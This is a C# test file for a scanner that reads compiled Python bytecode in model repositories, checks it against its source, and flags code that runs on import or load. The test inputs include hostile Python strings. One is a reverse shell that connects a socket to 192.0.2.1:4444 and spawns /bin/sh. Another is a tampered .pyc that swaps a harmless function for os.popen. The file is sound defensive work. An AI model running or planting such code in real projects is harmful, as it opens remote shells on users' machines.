// Compiled Python is read as CPython runs it, and compared with its source.
using System.Globalization;
using System.Text;
using Assay.Detection;
using Assay.Evaluation.Bytecode;
using Assay.Policies;
using Assay.Tests.Builders;

namespace Assay.Tests.Formats.Bytecode;

public sealed class CompiledPythonTests
{
    private const string Compile = """
        import sys, base64, importlib.util, marshal, struct
        source = base64.b64decode(sys.argv[1]).decode()
        sys.stdout.write(base64.b64encode(importlib.util.MAGIC_NUMBER + struct.pack('<III', 0, 0, 0) + marshal.dumps(compile(source, 'x.py', 'exec'))).decode() + '\n')
        """;

    [Theory]
    [InlineData("import os\nos.system('./x')\n", 2, "import")]
    [InlineData("import os\ndef go():\n    os.system('./x')\ngo()\n", 3, "import")]
    [InlineData("import os\nclass A:\n    os.system('./x')\n", 3, "import")]
    [InlineData("import subprocess\nfrom transformers import PreTrainedModel\nclass M(PreTrainedModel):\n    def __init__(self, c):\n        subprocess.Popen(['./x'])\n", 5, "load")]
    [InlineData("import os, threading\ndef go():\n    os.system('./x')\nthreading.Thread(target=go).start()\n", 3, "import")]
    [InlineData("import socket, subprocess, os\ns = socket.socket()\ns.connect(('192.0.2.1', 4444))\nos.dup2(s.fileno(), 0)\nsubprocess.call(['/bin/sh', '-i'])\n", 5, "import")]
    public void CodeThatRunsIsNamedByTheLineOfItsSource(string source, int line, string when)
    {
        ModelRepository scanned = ModelRepository.Scan(("modeling_x.pyc", Compiled(source)));
        scanned.Names("modeling_x.pyc", line, when);
        Assert.All(scanned.Files, f => Assert.Empty(f.Unread));
    }

    /// <summary>An import compares the size of the source with what the compiled file says of it, and takes the file where it says that nobody shall compare.</summary>
    [Theory]
    [InlineData(0, true, "bytecode-differs")]
    [InlineData(1, false, "bytecode-differs")]
    [InlineData(0, false, "bytecode-stale")]
    [InlineData(3, false, "bytecode-stale")]
    public void ACodeThatIsNotWhatItsSourceSaysIsToldByWhetherAnImportTakesIt(byte flags, bool isOfThatSize, string rule)
    {
        byte[] source = "def f(x):\n    return x\n"u8.ToArray();
        byte[] compiled = Compiled("import os\ndef f(x):\n    return os.popen(x)\n");
        compiled[4] = flags;
        compiled[12] = isOfThatSize ? (byte)source.Length : (byte)0;
        ModelRepository scanned = ModelRepository.Scan(("x.py", source), ("__pycache__/x.cpython-311.pyc", compiled));
        Assert.Contains(scanned.Findings, f => f.Rule.Id == rule);
        Assert.Equal(rule == "bytecode-differs", scanned.Telling.Any());
    }

    [Fact]
    public void WhatAnAssertionRaisesIsNoDifference()
    {
        byte[] compiled = Compiled("def f(x):\n    raise AssertionError\n");
        ModelRepository.Scan(("x.py", "def f(x):\n    assert x\n"u8.ToArray()), ("__pycache__/x.cpython-311.pyc", compiled)).Passes();
    }

    [Fact]
    public void ACodeThatIsWhatItsSourceSaysPasses()
    {
        string source = "import os\nclass A:\n    __slots__ = ('a',)\n    def __init__(self, a):\n        self.__b = f'{a!r}' + 'x'\n        self.a = [i for i in a if i]\n    async def go(self):\n        with open(self.a) as f:\n            return f.read()\n";
        ModelRepository.Scan(("pkg/x.py", Encoding.UTF8.GetBytes(source)), ("pkg/__pycache__/x.cpython-311.pyc", Compiled(source))).Passes();
    }

    [Fact]
    public void NamesOutsideOfAsciiAreRead()
    {
        // Marshal writes an interned text that is not ASCII by a type of its own, with or without the mark of what is referred to again.
        string source = "class Größe:\n    Länge = 'ü'\n    def größer(self, ñ, é='straße'):\n        return ñ.ø(é=é), 'x'\n";
        ModelRepository.Scan(("x.py", Encoding.UTF8.GetBytes(source)), ("__pycache__/x.cpython-311.pyc", Compiled(source))).Passes();
    }

    [Fact]
    public void ACodeThatPythonNeverComparesIsANote()
    {
        byte[] compiled = Compiled("x = 1\n");
        compiled[4] = 1;
        Assert.Contains(ModelRepository.Scan(("x.py", "x = 1\n"u8.ToArray()), ("__pycache__/x.cpython-311.pyc", compiled)).Findings, f => f.Rule.Id == "bytecode-unread" && f.Severity is Severity.Low);
    }

    [Fact]
    public void ACutCodeDoesNotPass()
    {
        byte[] compiled = Compiled("import os\nos.system('./x')\n");
        for (int length = 17; length < compiled.Length; length += 7)
        {
            Assert.NotEqual(Verdict.Passed, ModelRepository.Scan(("x.pyc", compiled[..length])).Verdict);
        }
    }

    [Fact]
    public void TheListingIsThatOfDis()
    {
        const string Source = "import os, sys\nfrom json import loads as l\nclass A(object):\n    def f(self, a, *b, c=1, **d):\n        try:\n            for i in range(a):\n                self.x[i] = lambda q: q + i\n        except (ValueError, KeyError) as e:\n            raise RuntimeError(f'{a} {e!r}') from e\n        return [y async for y in b] if False else {**d, 'k': a @ c}\nwith open('x') as f:\n    print(f.read()[1:2], sep='')\n";
        const string Script = """
            import sys, base64, dis, marshal
            code = compile(base64.b64decode(sys.argv[1]).decode().replace('[y async for y in b] if False else ', ''), 'x.py', 'exec')
            print('M', base64.b64encode(marshal.dumps(code)).decode(), sys.version_info[1])
            todo = [code]
            while todo:
                one = todo.pop(0)
                for i in dis.get_instructions(one, show_caches=False):
                    print('I', one.co_name, i.offset, i.opname, i.arg or 0, i.positions.lineno if i.positions else '')
                todo[0:0] = [c for c in one.co_consts if hasattr(c, 'co_code')]
            """;
        string[] lines = CPython.Lines(Script, Convert.ToBase64String(Encoding.UTF8.GetBytes(Source)));
        string[] head = lines[0].Split(' ');
        ModuleCode module = ModuleCode.Read(Convert.FromBase64String(head[1]), int.Parse(head[2], CultureInfo.InvariantCulture))!;
        List<string> expected = [.. lines.Skip(1).Select(l => l.Split(' ')).Where(p => p[3] is not "EXTENDED_ARG").Select(p => $"{p[2]} {p[3]} {p[4]}")];
        List<string> actual = [.. module.Functions.SelectMany(module.Listing).Select(l => l[7..]).Select(l => l.Split(' ', StringSplitOptions.RemoveEmptyEntries)).Where(p => p[1] is not "EXTENDED_ARG").Select(p => $"{p[0]} {p[1]} {p[2]}")];
        Assert.Equal(expected, actual);
    }

    [Fact]
    public void LinesAreThoseOfDis()
    {
        const string Script = """
            import sys, base64, marshal
            code = compile(base64.b64decode(sys.argv[1]).decode(), 'x.py', 'exec')
            print(base64.b64encode(marshal.dumps(code)).decode(), sys.version_info[1])
            print(' '.join(f'{a}:{l or 0}' for a, b, l in code.co_lines()))
            """;
        string[] lines = CPython.Lines(Script, Convert.ToBase64String("import os\n\n\nx = [\n  1,\n  os.getcwd(),\n]\nif x:\n  y = (x\n    + x)\n"u8));
        string[] head = lines[0].Split(' ');
        ModuleCode module = ModuleCode.Read(Convert.FromBase64String(head[0]), int.Parse(head[1], CultureInfo.InvariantCulture))!;
        CodeLines told = new(module.Functions[0].Parts, module.Version);
        foreach (string[] pair in lines[1].Split(' ').Select(p => p.Split(':')))
        {
            Assert.Equal(int.Parse(pair[1], CultureInfo.InvariantCulture), told.Of(int.Parse(pair[0], CultureInfo.InvariantCulture)) ?? 0);
        }
    }

    private static byte[] Compiled(string source) => Convert.FromBase64String(CPython.Lines(Compile, Convert.ToBase64String(Encoding.UTF8.GetBytes(source)))[0]);
}
